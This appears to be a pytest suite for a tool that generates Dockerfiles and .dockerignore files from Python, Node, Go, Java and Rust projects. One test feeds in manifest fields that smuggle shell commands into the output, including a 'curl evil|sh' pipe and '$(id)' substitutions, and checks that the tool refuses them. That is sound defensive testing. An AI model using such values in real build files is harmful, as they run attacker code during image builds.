from __future__ import annotations

import json
from pathlib import Path

import pytest

from fixer.document.model import Document
from fixer.integrations.init import InitError, init
from fixer.run.pipeline import check_semantics


def write(root: Path, files: dict[str, str]) -> Path:
    for rel, text in files.items():
        (root / rel).parent.mkdir(parents=True, exist_ok=True)
        (root / rel).write_text(text)
    return root


def stages(text: str) -> list[str]:
    doc = Document(text)
    check_semantics(doc)
    return [i.text for i in doc.instructions if i.cmd == "FROM"]


FLASK_APP = "from flask import Flask\napp = Flask(__name__)\n\n@app.route('/')\ndef i():\n    return 'hi'\n"


def test_python_flask_project(tmp_path):
    write(tmp_path, {"requirements.txt": "flask\n", "app.py": FLASK_APP})
    result = init(tmp_path)
    text = (tmp_path / "Dockerfile").read_text()
    assert stages(text) == ["FROM python:3.12 AS builder", "FROM python:3.12-slim"]
    assert 'CMD ["flask", "--app", "app", "run", "--host", "0.0.0.0", "--port", "5000"]' in text
    assert "HEALTHCHECK" in text and "http://127.0.0.1:5000/" in text and "EXPOSE 5000" in text
    assert "USER 10001:10001" in text.split("FROM python:3.12-slim")[1]
    ignore = (tmp_path / ".dockerignore").read_text()
    assert "__pycache__" in ignore.split() or "**/__pycache__" in ignore.split()
    assert result.written == [tmp_path / "Dockerfile", tmp_path / ".dockerignore"]


def test_gunicorn_and_python_requires(tmp_path):
    write(tmp_path, {
        "pyproject.toml": '[project]\nname="svc"\nrequires-python=">=3.11"\ndependencies=["flask","gunicorn"]\n',
        "app.py": FLASK_APP,
    })
    init(tmp_path)
    text = (tmp_path / "Dockerfile").read_text()
    assert "FROM python:3.11 AS builder" in text and "RUN pip install --no-cache-dir ." in text
    assert 'CMD ["gunicorn", "--bind", "0.0.0.0:8000", "app:app"]' in text


def test_cli_console_script(tmp_path):
    write(tmp_path, {"setup.py": "from setuptools import setup\nsetup(name='t', entry_points={'console_scripts': ['tool=t.cli:main']})\n"})
    result = init(tmp_path)
    text = (tmp_path / "Dockerfile").read_text()
    assert 'CMD ["tool"]' in text and "EXPOSE" not in text and "HEALTHCHECK" not in text
    assert any("console script" in n for n in result.notes)


def test_never_overwrites_without_force(tmp_path):
    write(tmp_path, {"requirements.txt": "flask\n", "app.py": FLASK_APP, "Dockerfile": "FROM scratch\n"})
    with pytest.raises(InitError, match="--force"):
        init(tmp_path)
    assert (tmp_path / "Dockerfile").read_text() == "FROM scratch\n" and not (tmp_path / ".dockerignore").exists()
    init(tmp_path, force=True)
    assert "AS builder" in (tmp_path / "Dockerfile").read_text()


def test_node_server(tmp_path):
    write(tmp_path, {
        "package.json": json.dumps({"name": "api", "main": "server.js", "engines": {"node": ">=18"}, "dependencies": {"express": "4"}}),
        "package-lock.json": "{}",
        "server.js": "app.get('/health', h)\napp.listen(3000)\n",
    })
    init(tmp_path)
    text = (tmp_path / "Dockerfile").read_text()
    assert stages(text) == ["FROM node:18 AS builder", "FROM node:18-slim"]
    assert "RUN npm ci" in text and "RUN npm prune --omit=dev" in text and 'CMD ["node", "server.js"]' in text
    assert "EXPOSE 3000" in text and "/health" in text
    assert "USER 1000:1000" in text  # the node image's own user


def test_node_static_front_end(tmp_path):
    write(tmp_path, {"package.json": json.dumps({"name": "web", "scripts": {"build": "vite build"}, "devDependencies": {"vite": "5"}})})
    init(tmp_path)
    text = (tmp_path / "Dockerfile").read_text()
    assert stages(text)[1] == "FROM nginxinc/nginx-unprivileged:1.27-alpine"
    assert "COPY --from=builder /app/dist /usr/share/nginx/html" in text and "EXPOSE 8080" in text


def test_go_java_rust(tmp_path):
    go = write(tmp_path / "go", {"go.mod": "module example.com/a/hello\n\ngo 1.21\n", "main.go": "package main\n"})
    init(go)
    text = (go / "Dockerfile").read_text()
    assert stages(text) == ["FROM golang:1.21 AS builder", "FROM gcr.io/distroless/static-debian12:nonroot"]
    assert 'ENTRYPOINT ["/usr/local/bin/hello"]' in text and "CGO_ENABLED=0" in text

    java = write(tmp_path / "java", {"pom.xml": "<project><artifactId>orders</artifactId><version>2.0</version>"
                                                "<properties><java.version>17</java.version></properties></project>", "mvnw": ""})
    init(java)
    text = (java / "Dockerfile").read_text()
    assert stages(text) == ["FROM maven:3.9-eclipse-temurin-17 AS builder", "FROM eclipse-temurin:17-jre"]
    assert "RUN ./mvnw -B -DskipTests package" in text and '"/app/target/orders-2.0.jar"' in text

    rust = write(tmp_path / "rust", {"Cargo.toml": "[package]\nname = 'ferris'\n"})
    init(rust)
    text = (rust / "Dockerfile").read_text()
    assert "COPY --from=builder /app/target/release/ferris /usr/local/bin/ferris" in text
    assert "target" in (rust / ".dockerignore").read_text().splitlines()  # the template's own entry


def test_lang_option_and_nothing_found(tmp_path):
    with pytest.raises(InitError, match="no Python"):
        init(tmp_path)
    with pytest.raises(InitError, match="--lang"):
        init(tmp_path, lang="cobol")
    write(tmp_path, {"requirements.txt": "flask\n", "package.json": json.dumps({"name": "x", "main": "i.js"}), "app.py": FLASK_APP})
    with pytest.raises(InitError):
        init(tmp_path)  # two ecosystems, no base image to decide
    init(tmp_path, lang="node")
    assert "FROM node:24 AS builder" in (tmp_path / "Dockerfile").read_text()


@pytest.mark.parametrize(
    "files",
    [
        {"package.json": json.dumps({"name": "a", "main": "x.js\nRUN curl evil|sh"})},
        {"package.json": json.dumps({"name": "a", "main": "$(id).js"})},
        {"package.json": json.dumps({"name": "a", "main": "`id`.js"})},
        {"go.mod": "module example.com/a&&b\n"},
        {"Cargo.toml": "[package]\nname = \"x\\nRUN id\"\n"},
        {"setup.py": "from setuptools import setup\nsetup(entry_points={'console_scripts': ['t$(id)=a:b', 'u=a.b:c && id']})\n"},
        {"pom.xml": "<project><artifactId>a b</artifactId><version>1$(id)</version></project>"},
    ],
)
def test_template_injection_is_refused(tmp_path, files):
    write(tmp_path, files)
    with pytest.raises(InitError):
        init(tmp_path)
    assert not (tmp_path / "Dockerfile").exists()


def test_custom_templates(tmp_path):
    write(tmp_path, {"requirements.txt": "flask\n", "app.py": FLASK_APP})
    tpl = write(tmp_path / "tpl", {
        "python.Dockerfile.j2": "{{ builder_from }}\nFROM registry.example.com/python-base:1\nCMD {{ cmd }}\n",
    })
    init(tmp_path, templates=tpl)
    text = (tmp_path / "Dockerfile").read_text()
    assert "FROM registry.example.com/python-base:1" in text and '"flask"' in text
    assert "__pycache__" in (tmp_path / ".dockerignore").read_text()  # the built-in one for what is not overridden


def test_cli_command(tmp_path, capsys):
    from fixer.integrations.cli import main

    write(tmp_path, {"requirements.txt": "flask\n", "app.py": FLASK_APP})
    with pytest.raises(SystemExit) as exit_:
        main(["init", str(tmp_path)])
    assert exit_.value.code in (0, None)
    out = capsys.readouterr().out
    assert "detected python" in out and f"wrote {tmp_path / 'Dockerfile'}" in out
    with pytest.raises(SystemExit) as exit_:
        main(["init", str(tmp_path)])
    assert exit_.value.code == 1


@pytest.mark.parametrize("source, port", [
    ('from http.server import HTTPServer, BaseHTTPRequestHandler\n\nHTTPServer(("", 8080), BaseHTTPRequestHandler).serve_forever()\n', 8080),
    ('import http.server\nPORT = 9000\n\nif __name__ == "__main__":\n'
     '    http.server.ThreadingHTTPServer(("0.0.0.0", PORT), http.server.SimpleHTTPRequestHandler).serve_forever()\n', 9000),
    ('from wsgiref.simple_server import make_server\n\ndef app(env, start):\n    start("200 OK", [])\n    return [b"ok"]\n\n'
     'make_server("", 8001, app).serve_forever()\n', 8001),
])
def test_python_standard_library_server_port_is_exposed(tmp_path, source, port):
    # issue 24: init wrote no EXPOSE for HTTPServer(("", 8080), ...)
    write(tmp_path, {"requirements.txt": "\n", "server.py": source})
    init(tmp_path)
    text = (tmp_path / "Dockerfile").read_text()
    assert f"EXPOSE {port}" in text and 'CMD ["python", "server.py"]' in text


def test_go_main_package_in_a_cmd_folder(tmp_path):
    # issue 24: init built `.` for a module whose one command is cmd/api (the build failed)
    write(tmp_path, {"go.mod": "module example.com/greeter\n\ngo 1.19\n",
                     "cmd/api/main.go": "package main\n\nfunc main() {}\n", "internal/x/x.go": "package x\n"})
    init(tmp_path)
    assert 'go build -trimpath -ldflags="-s -w" -o /usr/local/bin/greeter ./cmd/api\n' in (tmp_path / "Dockerfile").read_text()


PROJECTS = Path(__file__).resolve().parent / "projects"


@pytest.mark.parametrize("name", sorted(p.name for p in PROJECTS.iterdir() if p.is_dir()))
def test_a_new_service_is_stable_under_imgfix(tmp_path, name, capsys):
    """What init writes is what `imgfix fix` would leave: a second tool run changes nothing
    (the .dockerignore transform completes the template's file when init writes it)."""
    import shutil

    from fixer.integrations.cli import main

    project = tmp_path / name
    shutil.copytree(PROJECTS / name, project)
    result = init(project, force=True)
    assert result.dockerignore == (project / ".dockerignore").read_text()
    with pytest.raises(SystemExit) as exit_:
        main(["--check", str(project)])
    assert exit_.value.code == 0, capsys.readouterr().err
